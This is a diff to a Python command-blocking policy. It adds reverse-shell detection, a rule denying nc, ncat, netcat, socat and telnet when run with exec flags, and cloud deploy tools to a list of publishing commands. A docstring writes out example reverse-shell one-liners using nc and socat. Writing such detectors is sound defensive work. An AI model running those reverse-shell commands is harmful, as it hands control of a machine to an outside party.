@@ -12,7 +12,13 @@ from fnmatch import fnmatchcase
 
 from csup.policy._command import Analysis, Command
 from csup.policy._flags import Args, parse_args
-from csup.policy._inline import DECODED_CODE, INTERPRETERS, REMOTE_CODE, STDIN_CODE
+from csup.policy._inline import (
+    DECODED_CODE,
+    INTERPRETERS,
+    REMOTE_CODE,
+    REVERSE_SHELL,
+    STDIN_CODE,
+)
 from csup.policy._lazy_re import LazyRegex
 from csup.policy._rules import Context, Finding, ask, deny, rule, shown
 from csup.policy._rules_delete import judge_delete
@@ -85,6 +91,16 @@ _PUBLISH = {
     ("gh", "gist"),
     ("gh", "api"),
     ("git", "push"),
+    ("fly", "deploy"),
+    ("flyctl", "deploy"),
+    ("netlify", "deploy"),
+    ("firebase", "deploy"),
+    ("wrangler", "deploy"),
+    ("wrangler", "publish"),
+    ("vercel", "deploy"),
+    ("serverless", "deploy"),
+    ("sls", "deploy"),
+    ("cdk", "deploy"),
 }
 _SESSION_PROCESSES = SHELLS | {
     "sshd",
@@ -141,6 +157,9 @@ def _code(command: Command) -> str | None:
 def runs_remote_code(command: Command, ctx: Context) -> Iterator[Finding]:
     """A shell or interpreter running what a download or a decoder produced."""
     code = _code(command)
+    if code is not None and REVERSE_SHELL.search(code):
+        yield _reverse_shell(command)
+        return
     if code is not None and REMOTE_CODE.search(code):
         yield deny(
             "exec.remote-code",
@@ -597,3 +616,31 @@ def clears_history(command: Command, ctx: Context) -> Iterator[Finding]:
             "system.history",
             f"Blocked {shown(command)}: it erases the shell history, the record of what was run.",
         )
+
+
+def _reverse_shell(command: Command) -> Finding:
+    return deny(
+        "exec.reverse-shell",
+        f"Blocked {shown(command)}: it connects a shell to the network, handing control of "
+        "this machine to whoever is at the other end.",
+    )
+
+
+@rule("nc", "ncat", "netcat", "socat", "telnet")
+def serves_a_shell(command: Command, ctx: Context) -> Iterator[Finding]:
+    """``nc -e /bin/sh host port``, ``socat tcp:host:port exec:sh``: a reverse (or bind) shell."""
+    args = command.argv[1:]
+    if command.name == "socat":
+        hit = any(a.lower().startswith(("exec:", "system:")) for a in args)
+    else:
+        hit = (
+            any(
+                a in ("--exec", "--sh-exec", "--lua-exec")
+                or a.startswith(("--exec=", "--sh-exec="))
+                or (a.startswith("-") and not a.startswith("--") and ("e" in a or "c" in a))
+                for a in args
+            )
+            and command.name != "telnet"
+        )
+    if hit:
+        yield _reverse_shell(command)
